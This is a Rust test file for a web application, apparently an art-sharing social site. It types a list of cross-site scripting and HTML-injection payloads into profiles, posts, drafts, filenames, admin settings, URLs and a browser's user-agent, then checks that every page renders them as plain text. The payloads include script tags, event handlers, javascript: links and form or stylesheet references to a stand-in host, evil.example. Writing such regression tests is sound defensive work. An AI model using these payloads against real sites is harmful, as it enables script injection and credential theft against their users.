//! Words stay words (HTM-02, HTM-03, HTM-06, HTM-08).

use scraper::Html;
use services::Member;
use services::posts::{Draft, PictureDraft};

use crate::support::clean::{foreign_markup, is_clean_page};
use crate::support::people::PASSWORD;
use crate::support::works::small_png;
use crate::support::{Answer, Browser, Person, TestServer, text, work};

const ATTACKS: [&str; 24] = [
    "<script>alert(1)</script>",
    "\"><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "'\" onmouseover=alert(1) x=\"",
    "<svg onload=alert(1)>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://evil.example/spy.png)",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<p style=\"position:fixed\" class=\"admin-delete\" id=\"csrf\">x</p>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
];

#[test]
fn words_never_become_markup_wherever_they_are_typed() {
    let server = TestServer::start();
    let owner = server.owner();
    let mira = server.artist("mira");
    for attacks in ATTACKS.chunks(6) {
        let mut pages = typed_everywhere(&server, &owner, &mira, attacks);
        pages.extend(
            [
                "/",
                "/about",
                "/home",
                "/home/mix",
                "/explore",
                "/@mira",
                "/@mira/posts",
                "/@mira/about",
                "/settings/profile",
                "/drafts",
            ]
            .map(ToOwned::to_owned),
        );
        pages.extend(
            [
                "/notifications",
                "/bookmarks",
                "/settings/sessions",
                "/settings/terms/seen",
                "/settings/filters",
                "/lists",
                "/@mira/lists",
                "/scheduled",
            ]
            .map(ToOwned::to_owned),
        );
        for page in pages {
            for browser in [&server.anyone(), &mira.browser, &owner.browser] {
                let answer = browser.get(&page);
                assert!(answer.status < 500, "{page}: {}", answer.status);
                looks_clean(&answer);
            }
        }
    }
    for page in [
        "/admin",
        "/admin/people",
        "/admin/people/mira",
        "/admin/invitations",
        "/admin/cases",
        "/admin/reports",
        "/admin/servers",
        "/admin/settings",
        "/admin/audit",
    ] {
        looks_clean(&owner.get(page).expect(200));
    }
    let feed = server.anyone().get("/@mira/feed.atom").expect(200);
    for content in feed_contents(&feed) {
        let complaints: Vec<_> = foreign_markup(&Html::parse_fragment(&content))
            .into_iter()
            // A reader shows our pictures by their whole address.
            .filter(|it| !it.starts_with("<img") || !it.contains("(\"src\", \"http://127.0.0.1"))
            .collect();
        assert!(complaints.is_empty(), "{complaints:#?}");
    }
}

fn looks_clean(answer: &Answer) {
    if !answer.header("content-type").unwrap_or_default().starts_with("text/html") {
        return;
    }
    is_clean_page(answer);
    for json in answer.words("script[type='application/ld+json']") {
        serde_json::from_str::<serde_json::Value>(&json)
            .unwrap_or_else(|error| panic!("{}: {error} in {json}", answer.asked));
    }
}

/// The contents of the entries, as a reader sees them: the XML unescaped once.
fn feed_contents(feed: &Answer) -> Vec<String> {
    let text = feed.text();
    let mut contents = Vec::new();
    for part in text.split("<content").skip(1) {
        let (_, rest) = part.split_once('>').expect("a content element");
        let (inside, _) = rest.split_once("</content>").expect("its end");
        let unescaped = inside
            .replace("&lt;", "<")
            .replace("&gt;", ">")
            .replace("&quot;", "\"")
            .replace("&apos;", "'")
            .replace("&#39;", "'")
            .replace("&amp;", "&");
        contents.push(unescaped);
    }
    contents
}

/// Types the attacks into every field of text there is. Answers pages that show them.
fn typed_everywhere(
    server: &TestServer,
    owner: &Person<'_>,
    mira: &Person<'_>,
    attacks: &[&str],
) -> Vec<String> {
    let mut pages = Vec::new();
    for attack in attacks {
        let short: String = attack.chars().take(60).collect();
        let profile = mira.form("/settings/profile", "/settings/profile");
        let profile = profile.with("display_name", &short).with("bio", attack);
        profile.with("name_1", &short).with("value_1", attack).send().expect(303);

        let mut made =
            work().alt(attack).title(attack).words(&format!("{attack}\n\n#birds {attack}"));
        (*attack).clone_into(&mut made.draft.medium);
        made.draft.year = attack.chars().take(20).collect();
        let public = mira.publish(made.clone());
        (*attack).clone_into(&mut made.draft.warning);
        let covered = mira.publish(made);
        let reply = owner.publish(text(attack).answering(public.id));
        let edited = Draft { source: format!("edited {attack}"), ..text(attack).draft };
        server.run(services::posts::edit(&server.app, &owner.member, reply.id, edited)).unwrap();
        pages.extend([public.path, covered.path, reply.path]);
        pages.push(format!("/posts/{}/edit", covered.id.0));
        pages.push(format!("/posts/{}/delete", covered.id.0));
        pages.push(format!("/posts/{}/history", reply.id.0));
        pages.push(format!("/compose?reply_to={}", public.id.0));
        pages.push(format!("/settings/terms/seen/{}", covered.media[0].0));

        pages.push(drafted(server, mira, attack, &short));
        pages.extend(put_away(server, owner, &short));
        said_by_staff(server, owner, attack, &short);
        pages.extend(echoes(&short));
    }
    pages
}

/// A draft and a file with such names. Answers where it opens.
fn drafted(server: &TestServer, mira: &Person<'_>, attack: &str, short: &str) -> String {
    let media = mira.upload(&format!("{attack}.png"), &small_png(30, 30)).unwrap();
    let picture = PictureDraft { media, alt: short.to_owned(), ..PictureDraft::default() };
    let draft = Draft { title: short.to_owned(), pictures: vec![picture], ..Draft::default() };
    let saving = services::drafts::save(&server.app, &mira.member, None, draft);
    format!("/compose?draft={}", server.run(saving).unwrap().0)
}

/// A filter that folds Mira's works, a list, a folder and a post for later with such names. Answers
/// where they stand.
fn put_away(server: &TestServer, owner: &Person<'_>, short: &str) -> Vec<String> {
    let (app, member) = (&server.app, &owner.member);
    let words = |keyword: &str| services::filters::KeywordEdit {
        keyword: Some(keyword.to_owned()),
        ..Default::default()
    };
    let filter = services::filters::Edit {
        title: Some(short.to_owned()),
        contexts: Some(services::filters::Context::ALL.to_vec()),
        keywords: vec![words("birds"), words(short)],
        ..Default::default()
    };
    let filter = server.run(services::filters::create(app, member, filter)).unwrap().filter.id;
    let title = Some(short.to_owned());
    let list = services::lists::Change { title, ..Default::default() };
    let list = server.run(services::lists::create(app, member, list)).unwrap().id;
    let folder = server.run(services::bookmark_folders::create(app, member, short)).unwrap().id;
    let later = app.now().plus(std::time::Duration::from_hours(1));
    let draft = Draft { title: short.to_owned(), ..text(short).draft };
    server.run(services::scheduled::add(app, member, draft, later)).unwrap();
    vec![
        format!("/settings/filters/{filter}"),
        format!("/lists/{list}/edit"),
        format!("/lists/{list}/people"),
        format!("/bookmarks/{folder}"),
    ]
}

/// Whatever staff may write somewhere.
fn said_by_staff(server: &TestServer, owner: &Person<'_>, attack: &str, short: &str) {
    server.set(|site| {
        short.clone_into(&mut site.name);
        for words in
            [&mut site.description, &mut site.rules, &mut site.contact, &mut site.sign_up_question]
        {
            attack.clone_into(words);
        }
    });
    let form = owner.form("/admin/invitations", "/admin/invitations");
    form.with("note", attack).send().expect(303);
    let console = Member::console();
    let making = services::tokens::create(&server.app, &console, "mira", "read", attack);
    server.run(making).unwrap();
}

/// Pages that say back what the address says.
fn echoes(attack: &str) -> Vec<String> {
    let query: String = url::form_urlencoded::byte_serialize(attack.as_bytes()).collect();
    let patterns = [
        "/sign-in?next=QUERY",
        "/sign-up?invite=QUERY",
        "/tags/QUERY",
        "/explore?tag=QUERY",
        "/compose?text=QUERY",
        "/?done=QUERY",
        "/password/new?token=QUERY",
        "/setup?token=QUERY",
        "/@QUERY",
        "/invite/QUERY",
        "/admin/people?q=QUERY",
    ];
    patterns.iter().map(|it| it.replace("QUERY", &query.replace('+', "%20"))).collect()
}

/// A browser that names itself in markup sees its name as words on the list of sessions.
#[test]
fn the_name_of_a_browser_is_words_too() {
    let server = TestServer::start();
    server.artist("mira");
    let browser: Browser =
        server.anyone().named("<script>alert(1)</script>\"><img src=x onerror=alert(1)>");
    let form =
        browser.form("/sign-in", "/sign-in").with("login", "mira").with("password", PASSWORD);
    form.send().expect(303);
    looks_clean(&browser.get("/settings/sessions").expect(200));
}
